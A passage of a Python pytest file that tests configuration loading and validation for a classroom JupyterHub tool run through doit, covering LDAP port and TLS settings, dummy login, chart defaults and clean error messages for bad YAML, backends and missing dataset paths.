     {"classroom.resources.cpu_guarantee": 0.5, "classroom.resources.cpu_limit": 1}),
    ("ldap-port-by-strategy-ldaps", LDAP, {"classroom.auth.ldap.port": 0, "ldap_port": 636}),
    ("ldap-port-by-strategy-starttls", LDAP + "    tls_strategy: before_bind\n",
     {"classroom.auth.ldap.port": 0, "ldap_port": 389}),
    ("ldap-port-by-strategy-insecure", LDAP + "    tls_strategy: insecure\n", {"ldap_port": 389}),
    ("ldap-own-port", LDAP + "    port: 3269\n    tls_strategy: on_connect\n", {"ldap_port": 3269}),
    ("ldap-starttls-on-389", LDAP + "    port: 389\n    tls_strategy: before_bind\n", {"ldap_port": 389}),
    ("ldap-wrong-port-but-dummy-login", "auth:\n  ldap:\n    port: 389\n", {"classroom.auth.ldap.port": 389}),
    ("ldap-search-user-with-base", LDAP.replace("    bind_dn_templates: ['uid={username},ou=people,dc=uni,"
                                                "dc=example,dc=edu']\n", "")
     + "    search_user: cn=reader,dc=uni\n    user_search_base: ou=people,dc=uni\n",
     {"classroom.auth.ldap.user_attribute": "uid", "classroom.auth.ldap.lookup_dn_user_dn_attribute": "",
      "classroom.auth.ldap.bind_dn_templates": []}),
    ("ldap-search-user-active-directory", LDAP + "    search_user: cn=reader,dc=uni\n"
     "    user_search_base: ou=people,dc=uni\n    user_attribute: sAMAccountName\n"
     "    lookup_dn_user_dn_attribute: cn\n",
     {"classroom.auth.ldap.user_attribute": "sAMAccountName",
      "classroom.auth.ldap.lookup_dn_user_dn_attribute": "cn"}),
    ("gke-dummy-trial", "auth:\n  dummy_trial: true\n" + GKE_WITHOUT_AUTH + "  tls: {mode: autohttps, "
     "email: staff@example.edu}\n", {"classroom.auth.type": "dummy", "classroom.auth.dummy_trial": True}),
    ("local-dummy-login", "auth:\n  type: dummy\n", {"classroom.auth.dummy_trial": False}),
    ("chart-defaults", "chart: {}\nimages: {}\n",
     {"classroom.chart.jupyterhub_version": "4.4.0",
      "classroom.images.hub_base_image": "quay.io/jupyterhub/k8s-hub:4.4.0"}),
]


@pytest.mark.parametrize("text,expected", [c[1:] for c in ACCEPTED], ids=[c[0] for c in ACCEPTED])
def test_good_input_is_accepted_as_normalized_values(project, text, expected):
    project.write("classroom.yaml", text)

    config = load(project.config)  # what dodo.py loads; raises ConfigError on any refusal

    ldap = config.classroom["auth"]["ldap"]
    seen = {key: (ldap_port(ldap["port"], ldap["tls_strategy"]) if key == "ldap_port" else config.value(key))
            for key in expected}
    assert seen == expected


def test_committed_config_is_accepted_by_doit(project):
    result = project.doit("list")
    assert result.returncode == 0, result.stderr


def test_all_problems_of_all_files_at_once(project):
    project.write("classroom.yaml", "profile: gk\n")
    project.write("courses.yaml", COURSE.replace("name: intro", "name: Intro"))
    project.write("data.yaml", "datasets: {}\n")

    result = project.doit("list")

    assert result.returncode == 3
    files = [line.split(":", 1)[0] for line in result.stderr.splitlines()[1:]]
    assert files == ["config/classroom.yaml", "config/courses.yaml", "config/data.yaml"]


@pytest.mark.parametrize("command", [["list"], ["info", "secrets"], [], ["clean"], ["forget"]])
def test_every_doit_command_validates_first(project, command):
    project.write("courses.yaml", "courses: 3\n")
    result = project.doit(*command)
    assert result.returncode == 3
    assert "config/courses.yaml:1: courses: found 3 (an integer)" in result.stderr
    assert "Traceback" not in result.stderr


def test_bad_backend_in_environment(project):
    result = project.doit("list", env=project.env(CLASSTOOLS_BACKEND="mysql"))
    assert result.returncode == 3
    assert result.stderr.splitlines()[1] == ("environment CLASSTOOLS_BACKEND: found 'mysql'; "
                                             "expected one of: json, dbm, sqlite3")


def test_cached_config_is_rechecked_when_a_named_path_disappears(project):
    assert project.doit("list").returncode == 0  # validates and caches
    dataset = project.config / "datasets" / "sample-flights"
    for child in dataset.iterdir():
        child.unlink()
    dataset.rmdir()

    result = project.doit("list")

    assert result.returncode == 3
    assert ("config/data.yaml:5: datasets[0].source: found 'config/datasets/sample-flights' (text), "
            "no such file or directory") in result.stderr


def test_non_text_key_is_a_clean_error(project):
    project.write("classroom.yaml", "hub:\n  null: 3\n")
    result = project.doit("list")
    assert result.returncode == 3
    assert result.stderr.splitlines()[1] == (
        "config/classroom.yaml:2: YAML syntax error at line 2, column 3: found the key nothing (null); "
        "expected a name (keys are text)")
